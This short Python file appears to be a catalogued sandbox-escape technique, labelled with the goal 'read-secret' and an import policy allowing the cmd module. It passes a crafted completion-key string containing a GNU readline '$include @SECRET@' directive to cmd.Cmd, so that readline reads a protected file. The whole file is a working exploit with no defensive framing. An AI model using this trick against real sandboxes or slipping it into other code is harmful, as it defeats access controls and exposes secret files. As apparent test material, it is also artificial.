# technique: cmd.Cmd binds its completion key, whose text makes readline include a file
# goal: read-secret
# policy: imports cmd = *
# source: own analysis: GNU readline, $include
import cmd


class Shell(cmd.Cmd):
    def do_EOF(self, line):
        return True


Shell(completekey='$include @SECRET@\n#').cmdloop()
